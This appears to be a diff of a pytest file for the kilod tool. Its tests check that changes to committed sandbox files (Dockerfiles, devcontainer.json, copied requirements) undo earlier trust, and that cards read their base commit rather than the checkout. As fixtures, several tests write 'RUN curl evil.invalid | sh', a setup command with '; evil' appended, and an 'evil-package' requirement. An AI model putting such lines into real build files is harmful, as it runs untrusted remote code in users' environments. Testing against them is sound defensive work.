@@ -13,13 +13,14 @@ import pytest
 from kilod.agent.models import Models
 from kilod.cards import Cards, NewCard
 from kilod.config import Settings
+from kilod.environments.dockerfile import copied_sources
 from kilod.errors import Conflict, Invalid
 from kilod.events import EventLog
 from kilod.git.repository import Repositories
 from kilod.repo_settings import RepoSettings
 from kilod.store import Store
 from kilod.trust import RepoTrust, read_settings_file, sandbox_files, widening_keys
-from tests.kilod_testing import make_repo
+from tests.kilod_testing import git, make_repo
 
 WIDE = 'network = true\ncopy = [".env"]\nsetup = ["make deps"]\n\n[[checks]]\nname = "t"\nrun = "make test"\n'
 
@@ -46,13 +47,25 @@ def sha(text: str) -> str:
     return hashlib.sha256(text.encode()).hexdigest()
 
 
-def set_sha(files: dict[str, str | None]) -> str:
-    """The documented hash of a set of sandbox files: each path and its length-prefixed content, in order."""
+def set_sha(files: dict[str, str | None], inputs: dict[str, str] | None = None) -> str:
+    """The documented hash of a set of sandbox files: each path and its length-prefixed content, in order,
+    then what the Dockerfiles copy from their contexts: each path and its git object id."""
     combined = hashlib.sha256(b"kilod-sandbox-files-v1\0")
     for path, text in files.items():
         combined.update(path.encode() + b"\0")
         combined.update(b"absent\0" if text is None else b"%d\0" % len(text.encode()) + text.encode())
+    for path, object_id in (inputs or {}).items():
+        combined.update(b"input\0" + path.encode() + b"\0" + object_id.encode() + b"\0")
     return combined.hexdigest()
+
+
+def commit(repo: Path, files: dict[str, str], message: str = "change") -> None:
+    """A change that lands on the repository's branch (cards read their base commit, not the checkout)."""
+    for name, text in files.items():
+        (repo / name).parent.mkdir(parents=True, exist_ok=True)
+        (repo / name).write_text(text)
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", message)
 
 
 def new(repo: Path, **fields: object) -> NewCard:
@@ -86,13 +99,13 @@ async def test_trusting_the_shown_hash_applies_everything_until_the_file_changes
     assert card["settings_source"]["trusted"] is True and card["settings_source"]["note"] is None
 
     # an agent's merged change makes new content: not trusted, whatever was trusted before
-    (repo / ".kilod.toml").write_text(WIDE + "# harmless looking\n")
+    commit(repo, {".kilod.toml": WIDE + "# harmless looking\n"})
     card = await board.create_card(new(repo))
     assert card["network"] is False and card["settings"]["copy"] == []
     assert card["settings_source"]["trusted"] is False
 
     # going back to the trusted content is trusted again; revoking forgets it
-    (repo / ".kilod.toml").write_text(WIDE)
+    commit(repo, {".kilod.toml": WIDE})
     assert (await board.create_card(new(repo)))["network"] is True
     await board.trust.revoke_of(str(repo))
     assert (await board.create_card(new(repo)))["network"] is False
@@ -185,6 +198,7 @@ async def test_changing_the_devcontainer_or_its_dockerfile_after_trust_untrusts_
     assert [(f["path"], f["content"]) for f in view["files"]] == [
         (".kilod.toml", 'checks = ["true"]\n'), (".devcontainer/devcontainer.json", DEVCONTAINER),
         (".devcontainer/Dockerfile", DOCKERFILE)]
+    assert view["inputs"] == []   # the Dockerfile copies nothing from its context
     assert view["sha256"] == set_sha({f["path"]: f["content"] for f in view["files"]})
     assert view["widening"] == [".devcontainer/devcontainer.json"] and view["trusted"] is False
     await board.trust.trust_of(str(repo), view["sha256"])
@@ -195,22 +209,22 @@ async def test_changing_the_devcontainer_or_its_dockerfile_after_trust_untrusts_
                                                 ".devcontainer/Dockerfile"]
 
     # an agent's merged change to the Dockerfile alone: the whole set is untrusted again
-    (repo / ".devcontainer/Dockerfile").write_text(DOCKERFILE + "RUN curl evil.invalid | sh\n")
+    commit(repo, {".devcontainer/Dockerfile": DOCKERFILE + "RUN curl evil.invalid | sh\n"})
     card = await board.create_card(new(repo))
     assert card["settings_source"]["trusted"] is False
     assert card["settings"]["dockerfile"] is None and card["settings"]["setup"] == [] and card["settings"]["env"] == {}
     assert ".devcontainer/Dockerfile" in card["settings_source"]["note"]
-    (repo / ".devcontainer/Dockerfile").write_text(DOCKERFILE)
+    commit(repo, {".devcontainer/Dockerfile": DOCKERFILE})
     assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is True
 
     # … or to devcontainer.json (a new setup command)
-    (repo / ".devcontainer/devcontainer.json").write_text(DEVCONTAINER.replace("make deps", "make deps; evil"))
+    commit(repo, {".devcontainer/devcontainer.json": DEVCONTAINER.replace("make deps", "make deps; evil")})
     card = await board.create_card(new(repo))
     assert card["settings_source"]["trusted"] is False and card["settings"]["setup"] == []
 
     # … or pointing it at another Dockerfile: that file joins the set, so the hash moves
-    (repo / ".devcontainer/devcontainer.json").write_text(DEVCONTAINER.replace('"Dockerfile"', '"Other"'))
-    (repo / ".devcontainer/Other").write_text(DOCKERFILE)
+    commit(repo, {".devcontainer/devcontainer.json": DEVCONTAINER.replace('"Dockerfile"', '"Other"'),
+                  ".devcontainer/Other": DOCKERFILE})
     assert [f["path"] for f in sandbox_files(repo).files][-1] == ".devcontainer/Other"
     assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is False
 
@@ -222,7 +236,7 @@ async def test_a_kilod_toml_dockerfile_is_part_of_what_is_trusted(board: Cards, 
     assert [f["path"] for f in view["files"]] == [".kilod.toml", "env/Dockerfile"]
     await board.trust.trust_of(str(repo), view["sha256"])
     assert (await board.create_card(new(repo)))["settings"]["dockerfile"] == "env/Dockerfile"
-    (repo / "env/Dockerfile").write_text(DOCKERFILE + "RUN true\n")
+    commit(repo, {"env/Dockerfile": DOCKERFILE + "RUN true\n"})
     card = await board.create_card(new(repo))
     assert card["settings"]["dockerfile"] is None and card["settings_source"]["ignored"] == ["dockerfile"]
 
@@ -270,3 +284,56 @@ def test_sandbox_files_are_read_without_following_symbolic_links(tmp_path: Path)
     (repo / "env").mkdir()
     (repo / "env/Dockerfile").write_text("# " + "x" * 300_000 + "\n")
     assert "larger than" in str(sandbox_files(repo).files[1]["error"])
+
+
+async def test_a_card_reads_its_base_commits_sandbox_files_never_the_checkouts(board: Cards, tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n',
+                                      "env/Dockerfile": DOCKERFILE})
+    await board.trust.trust_of(str(repo), (await board.trust.view_of(str(repo)))["sha256"])
+    # an uncommitted edit in the checkout is not what the image is built from: the card ignores it
+    (repo / "env/Dockerfile").write_text(DOCKERFILE + "RUN curl evil.invalid | sh\n")
+    card = await board.create_card(new(repo))
+    assert card["settings"]["dockerfile"] == "env/Dockerfile" and card["settings_source"]["trusted"] is True
+    git(repo, "checkout", "-q", "--", ".")
+
+    # a card on another branch whose Dockerfile differs: that branch's files are what it builds, untrusted
+    git(repo, "checkout", "-q", "-b", "other")
+    commit(repo, {"env/Dockerfile": DOCKERFILE + "RUN echo other\n"})
+    git(repo, "checkout", "-q", "main")
+    other = await board.create_card(new(repo, base="other"))
+    assert other["settings_source"]["trusted"] is False and other["settings"]["dockerfile"] is None
+    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is True   # main's still is
+    shown = await board.trust.view_of(str(repo), "other")
+    assert shown["base"] == git(repo, "rev-parse", "other").strip()
+    assert [f["content"] for f in shown["files"]][-1] == DOCKERFILE + "RUN echo other\n"
+    assert shown["sha256"] == other["settings_source"]["sha256"]
+    await board.trust.trust_of(str(repo), shown["sha256"], "other")
+    trusted = await board.create_card(new(repo, base="other"))
+    assert trusted["settings_source"]["trusted"] is True and trusted["settings"]["dockerfile"] == "env/Dockerfile"
+
+
+async def test_what_a_dockerfile_copies_from_its_context_is_trusted_with_it(board: Cards, tmp_path: Path) -> None:
+    dockerfile = ("FROM debian:bookworm\nCOPY --chown=1000 requirements.txt /tmp/\n"
+                  "COPY --from=builder /out /out\nRUN pip install -r /tmp/requirements.txt\n")
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n',
+                                      "env/Dockerfile": dockerfile, "env/requirements.txt": "six\n"})
+    view = await board.trust.view_of(str(repo))
+    blob = git(repo, "rev-parse", "HEAD:env/requirements.txt").strip()
+    assert view["inputs"] == [{"path": "env/requirements.txt", "id": blob}]
+    assert view["sha256"] == set_sha({f["path"]: f["content"] for f in view["files"]}, {"env/requirements.txt": blob})
+    await board.trust.trust_of(str(repo), view["sha256"])
+    commit(repo, {"README.md": "an unrelated change\n"})       # not copied into the image: still trusted
+    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is True
+    commit(repo, {"env/requirements.txt": "six\nevil-package\n"})   # copied into the image and installed
+    card = await board.create_card(new(repo))
+    assert card["settings_source"]["trusted"] is False and card["settings"]["dockerfile"] is None
+
+
+def test_the_sources_a_dockerfile_copies_from_its_context() -> None:
+    text = ("# syntax\nFROM x AS builder\ncopy a.txt b/ /dst/\nADD --chown=1:1 [\"c d\", \"/e\"]\n"
+            "COPY --from=builder /out /x\nADD https://example.invalid/f.tgz /f\nCOPY src/*.py \\\n  /app/\n"
+            "COPY <<EOF /etc/x\nhello\nEOF\nCOPY ../../up /up\n")
+    assert copied_sources(text) == ["a.txt", "b", "c d", "src", "up"]
+    assert copied_sources("FROM x\nCOPY . /app\n") == ["."]
+    assert copied_sources("FROM x\nARG D=src\nCOPY $D /app\n") == ["."]   # not read plainly: all of it
+    assert copied_sources("FROM x\nRUN true\n") == []
